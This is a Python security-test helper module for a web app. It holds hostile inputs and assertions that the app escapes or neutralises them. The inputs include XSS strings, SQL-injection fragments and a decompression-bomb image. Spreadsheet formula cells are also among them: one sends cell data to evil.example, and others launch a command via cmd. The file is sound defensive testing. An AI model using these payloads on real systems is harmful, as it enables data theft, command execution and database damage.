"""Hostile inputs and the checks that say they came out inert (tests/security)."""

import csv
import io
import re
from functools import cache

from markupsafe import escape
from PIL import Image

# --- payloads ----------------------------------------------------------------------------

# Script and HTML that would run if any page, popup or e-mail put it out unescaped.
XSS = {
    "script-tag": "<script>alert(1)</script>",
    "attribute-breakout": '"><img src=x onerror=alert(1)>',
    "javascript-url": "javascript:alert(1)",
    "single-quote-breakout": "' autofocus onfocus='alert(1)",
}
XSS_IDS = list(XSS)
XSS_VALUES = list(XSS.values())

# Markup that can only exist in a page if a payload above went out raw.
RAW_MARKERS = (
    "<script>alert(1)",
    "<img src=x onerror",
    'href="javascript:',
    "href='javascript:",
    " autofocus onfocus='alert(1)",
)

# Cells that a spreadsheet would run as a formula (OWASP "CSV injection").
FORMULAS = {
    "equals": '=HYPERLINK("https://evil.example/?x="&A1,"Klikšķiniet")',
    "plus": "+SUM(1;2)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(A1:A9) un vēl teksts",
    "tab-then-equals": "\t=1+1 un vēl teksts",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")

# SQL fragments for filters.
SQL = {
    "or-1-1": "' OR 1=1--",
    "drop-table": "1;DROP TABLE ideas",
    "union": "x' UNION SELECT email FROM users--",
}

# Latvian messages the tests expect (the default language of /lv/ pages).
LV_INVISIBLE = "Lūdzu, noņemiet neredzamās vadības rakstzīmes."
LV_NOT_A_PHOTO = "Šo failu nevar izmantot kā fotoattēlu"
LV_TOO_LARGE = "Pārāk liels"
LV_COORDINATES = "Koordinātām jābūt skaitļiem"
LV_OUTSIDE = "Vietai jāatrodas pašvaldības teritorijā."


# --- checks ------------------------------------------------------------------------------


def assert_inert(html: str, payload: str) -> None:
    """The payload is on the page, escaped, and none of the markup it carries is live."""
    assert str(escape(payload)) in html, f"{payload!r} is not shown (escaped) on the page"
    lowered = html.lower()
    for marker in RAW_MARKERS:
        if marker.lower() in payload.lower() or marker.startswith("href"):
            assert marker.lower() not in lowered, f"raw {marker!r} in the page"


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_no_formula_cells(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: every text starting like a formula got a quote."""
    for row in rows:
        for cell in row:
            if _NUMBER.match(cell):
                continue
            assert not cell.startswith(FORMULA_STARTS), f"formula cell {cell!r} in {row!r}"


def neutralised(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_STARTS) else value


# --- clients -----------------------------------------------------------------------------


def client_as(app, user=None):
    """A client signed in as `user` with the session Flask-Login writes (no password hash)."""
    client = app.test_client()
    if user is not None:
        with client.session_transaction() as session:
            session["_user_id"] = user.get_id()
            session["_fresh"] = True
    return client


# --- files -------------------------------------------------------------------------------


def image_bytes(fmt: str = "JPEG", size=(64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(buffer, fmt)
    return buffer.getvalue()


@cache
def decompression_bomb() -> bytes:
    """A few kB of PNG that would decode to 144 megapixels (Pillow refuses it unread)."""
    buffer = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(buffer, "PNG")
    return buffer.getvalue()


GIF_JS_POLYGLOT = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=alert(1)//"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


class UnreadableBody(io.BytesIO):
    """A request body that records whether the app tried to read it."""

    def __init__(self):
        super().__init__(b"--kopa\r\n" + b"x" * 1024)
        self.read_attempted = False

    def _mark(self):
        self.read_attempted = True

    def read(self, *args):
        self._mark()
        return super().read(*args)

    def read1(self, *args):
        self._mark()
        return super().read1(*args)

    def readinto(self, buffer):
        self._mark()
        return super().readinto(buffer)

    def readline(self, *args):
        self._mark()
        return super().readline(*args)
